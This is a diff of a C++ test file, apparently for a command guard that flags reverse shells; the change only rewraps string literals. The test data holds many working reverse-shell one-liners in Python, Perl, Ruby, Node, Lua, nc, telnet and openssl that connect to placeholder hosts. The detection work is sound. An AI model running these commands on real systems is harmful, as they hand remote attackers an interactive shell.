@@ -355,11 +355,13 @@ TEST(GuardClasses, InterpreterReverseShellsAreNamed) {
       "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
       "s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);"
       "os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'",
-      "sudo /usr/bin/python3.11 -c 'import socket,subprocess;s=socket.socket();s.connect((\"h\",1));"
+      "sudo /usr/bin/python3.11 -c 'import socket,subprocess;s=socket.socket();"
+      "s.connect((\"h\",1));"
       "subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'",
       "env PYTHONUNBUFFERED=1 python -c \"import socket as k,pty,os;c=k.create_connection(('h',9));"
       "[os.dup2(c.fileno(),f) for f in (0,1,2)];pty.spawn('sh')\"",
-      "perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+      "perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;"
+      "socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
       "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
       "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
       "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");"
@@ -371,7 +373,8 @@ TEST(GuardClasses, InterpreterReverseShellsAreNamed) {
       "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"h\",\"1\");"
       "while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
       "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);"
-      "var client=new net.Socket();client.connect(4242,\"10.0.0.1\",function(){client.pipe(sh.stdin);"
+      "var client=new net.Socket();client.connect(4242,\"10.0.0.1\",function(){"
+      "client.pipe(sh.stdin);"
       "sh.stdout.pipe(client);sh.stderr.pipe(client);});'",
       "lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');"
       "os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
@@ -411,7 +414,8 @@ TEST(GuardClasses, ShellsPipedToNetworkConnectionsAreReverseShells) {
       "rm -f /tmp/p; mknod /tmp/p p && telnet h 1 0</tmp/p | /bin/bash 1>/tmp/p",
       "telnet h 1 | /bin/sh | telnet h 2",
       "nc h 1 | sudo bash | nc h 2",
-      "openssl s_client -quiet -connect h:1 | /bin/bash 2>&1 | openssl s_client -quiet -connect h:2",
+      "openssl s_client -quiet -connect h:1 | /bin/bash 2>&1 | "
+      "openssl s_client -quiet -connect h:2",
       "busybox nc h 1 | busybox sh -i 2>&1 | busybox nc h 2",
   };
   for (const std::string& c : shells) {
